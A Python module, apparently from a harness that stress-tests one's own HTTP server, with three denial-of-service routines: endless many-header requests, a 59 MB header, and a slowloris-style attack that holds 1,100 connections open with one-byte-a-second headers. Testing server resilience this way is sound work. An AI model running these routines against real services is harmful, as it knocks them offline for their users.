"""Requests whose header is endless or never ends."""

import asyncio
import time

from attacks.client import GONE, Outcome, Target, connect, sent, status

BEGIN = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n"


async def many_headers(target: Target, seconds: float) -> Outcome:
    """Ten million short headers in one request, again and again."""
    return await endless(target, seconds, BEGIN, b"a:b\r\n" * 10_000, 1000)


async def long_header(target: Target, seconds: float) -> Outcome:
    """One header of 59 MB, again and again."""
    return await endless(target, seconds, BEGIN + b"X: ", b"a" * 65_536, 900)


async def endless(target: Target, seconds: float, begin: bytes, block: bytes, blocks: int) -> Outcome:
    outcome, until = Outcome(), time.monotonic() + seconds
    while time.monotonic() < until:
        reader, writer = await connect(target)
        outcome["requests"] += 1
        if await sent(writer, begin, until):
            for _ in range(blocks):
                if not await sent(writer, block, until):
                    break
        outcome[await status(reader, 1)] += 1
        writer.transport.abort()
        await asyncio.sleep(0.01)
    return outcome


async def half_sent(target: Target, seconds: float) -> Outcome:
    """1,100 requests from one address whose header gets a byte a second and never ends."""
    outcome, until = Outcome(), time.monotonic() + seconds
    async with asyncio.TaskGroup() as group:
        for _ in range(1100):
            group.create_task(hold(target, until, outcome))
            await asyncio.sleep(0.001)
    return outcome


async def hold(target: Target, until: float, outcome: Outcome) -> None:
    try:
        reader, writer = await connect(target)
    except GONE:
        outcome["not connected"] += 1
        return
    outcome["requests"] += 1
    answer = "open"
    block = BEGIN + b"X: "
    while answer == "open" and time.monotonic() < until:
        if not await sent(writer, block, until):
            answer = "closed"
            break
        block = b"a"
        answer = await status(reader, 1)
    outcome[answer] += 1
    writer.transport.abort()
